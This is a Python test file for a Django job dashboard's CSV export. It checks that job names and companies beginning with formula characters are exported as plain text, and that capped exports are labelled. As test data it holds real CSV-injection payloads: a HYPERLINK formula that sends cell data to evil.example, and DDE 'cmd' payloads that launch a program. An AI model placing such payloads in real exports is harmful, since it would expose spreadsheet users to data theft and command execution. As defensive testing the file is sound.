"""The CSV export, through the view, of jobs a spreadsheet would otherwise run as formulas.

The jobs are indexed into a board of this test's own in the live sandbox, found by the real
search, exported by GET /export.csv: every name and company that starts with a formula
character comes out as text (a leading apostrophe), never as a formula (OWASP "CSV injection").
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from hrflow_dash.demo import DEMO_ALGORITHM_KEYS, DEMO_SOURCE_KEYS
from scoring import selectors
from scoring.export import CSV_COLUMNS
from scoring.hrflow.query import JobQuery
from tests.fixtures.sandbox import own_board, point_dashboard_at, settle

pytestmark = [pytest.mark.slow, pytest.mark.django_db]

# What a spreadsheet treats as the start of a formula (and what an attacker would send).
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
}


@pytest.fixture
def formula_board(live_sandbox: Any, settings: Any) -> str:
    board = own_board(live_sandbox, "Formula jobs")
    point_dashboard_at(settings, live_sandbox, board_keys=[board])
    for lead, formula in FORMULAS.items():
        live_sandbox.index_job(
            {
                "board_key": board,
                "reference": f"formula-{uuid.uuid4().hex[:10]}",
                "name": formula,
                "url": "https://example.com/jobs/formula",
                "summary": f"A posting whose company starts with {lead}",
                "skills": [{"name": "Python", "type": "hard", "value": None}],
                "tags": [{"name": "company", "value": formula}],
            }
        )
    settle(live_sandbox, board)
    return board


def test_export_neutralises_formulas_in_name_and_company(formula_board: str) -> None:
    user = get_user_model().objects.create_user("export-alice", password="pw-export-alice-1")
    client = Client()
    client.force_login(user)
    candidate = selectors.profile_search(source_key=DEMO_SOURCE_KEYS[0], name="", limit=1)[0]
    query = JobQuery(
        board_keys=(formula_board,),
        source_key=DEMO_SOURCE_KEYS[0],
        profile_key=candidate.key,
        algorithm_key=DEMO_ALGORITHM_KEYS[0],
    )

    response = client.get("/export.csv?" + query.to_query_string())

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == CSV_COLUMNS
    name_col, company_col = CSV_COLUMNS.index("title"), CSV_COLUMNS.index("company")
    exported = {(row[name_col], row[company_col]) for row in rows[1:]}
    # Every indexed job is there, each cell the original text behind one apostrophe.
    assert exported == {("'" + formula, "'" + formula) for formula in FORMULAS.values()}


def test_a_capped_export_says_so_and_carries_iso_dates_and_sources(live_sandbox: Any, settings: Any) -> None:
    point_dashboard_at(settings, live_sandbox)
    settings.HRFLOW_EXPORT_CAP = 5
    user = get_user_model().objects.create_user("export-bob", password="pw-export-bob-1")
    client = Client()
    client.force_login(user)
    candidate = selectors.profile_search(source_key=DEMO_SOURCE_KEYS[0], name="", limit=1)[0]
    query = JobQuery(
        board_keys=tuple(settings.HRFLOW_BOARD_KEYS),
        source_key=DEMO_SOURCE_KEYS[0],
        profile_key=candidate.key,
        algorithm_key=DEMO_ALGORITHM_KEYS[0],
    )
    page = selectors.job_match_list(query=query)
    assert page.total > 5

    response = client.get("/export.csv?" + query.to_query_string())

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == [f"# export capped: the first 5 of {page.total:,} jobs (HRFLOW_EXPORT_CAP); "
                       "narrow the filters for the rest"]  # fmt: skip
    assert response["X-Export-Capped"] == f"5 of {page.total}"
    assert rows[1] == CSV_COLUMNS
    jobs = [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[2:]]
    assert [j["job_key"] for j in jobs] == [j.key for j in page.jobs[:5]]
    for job, shown in zip(jobs, page.jobs, strict=False):
        assert dt.datetime.fromisoformat(job["created_at"]) == shown.created_at
        assert (job["salary_source"], job["date_source"]) == (shown.salary_source, shown.date_source)
        assert job["salary_source"] in {"oews", "none", "oews_usd_to_eur", "posting", "posting_usd_to_eur"}
        assert job["date_source"] in {"estimated", "first_seen", "posting"}
